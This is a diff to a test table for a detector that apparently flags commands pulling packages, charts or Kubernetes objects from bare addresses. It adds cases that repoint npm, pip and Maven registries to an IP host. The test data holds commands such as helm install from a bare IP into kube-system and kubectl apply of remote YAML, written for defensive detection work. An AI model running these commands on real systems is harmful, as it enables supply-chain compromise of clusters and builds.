@@ -1,8 +1,26 @@
-import { cronJob, indicatorTable, runs, script, UNSEEN } from '../testing.ts';
+import { cronJob, indicatorTable, runs, script, UNSEEN, withFiles } from '../testing.ts';
 import { commandPackageFromAddress } from './package-from-address.ts';
+
+const settings = (to: string): string =>
+  JSON.stringify({
+    apiVersion: 'v1',
+    kind: 'ConfigMap',
+    metadata: { name: 'builds' },
+    data: { npmrc: `registry=${to}` },
+  });
+const MAVEN = '<settings><mirrors><mirror><id>a</id><mirrorOf>*</mirrorOf><url>TO</url></mirror></mirrors></settings>';
 
 indicatorTable(commandPackageFromAddress, {
   fires: {
+    'settings of builds in a ConfigMap that is applied': withFiles({ a: settings('http://203.0.113.7:8081/npm/') }, [
+      ...['kubectl', 'apply', '-f', '/m/a'],
+    ]),
+    'settings of builds in a patch': script(
+      `kubectl patch cm builds -p '{"data":{"pip.conf":"[global]\\nindex-url = http://203.0.113.7/simple"}}'`,
+    ),
+    'settings of Maven in a file': script(
+      `echo '${MAVEN.replace('TO', 'http://203.0.113.7/m2')}' > /home/a/.m2/settings.xml`,
+    ),
     'a chart': script('helm install a http://203.0.113.9/c-0.1.0.tgz -n kube-system'),
     'objects at an address': script('kubectl apply -n shop -f http://9.9.9.9/ds.yaml'),
     'the same in one word': script('oc create --filename=https://9.9.9.9:8443/ds.yaml'),
@@ -38,6 +56,12 @@ indicatorTable(commandPackageFromAddress, {
     ),
   },
   staysSilent: {
+    'settings of builds with a mirror of the company': withFiles({ a: settings('https://npm.example.com/') }, [
+      ...['kubectl', 'apply', '-f', '/m/a'],
+    ]),
+    'settings of Maven with a private address': script(
+      `echo '${MAVEN.replace('TO', 'http://10.2.0.7/m2')}' > /home/a/.m2/settings.xml`,
+    ),
     'objects of a project, in a pipe': script(
       'curl -sL https://github.com/acme/tool/releases/v1/a.yaml | kubectl apply -f -',
     ),
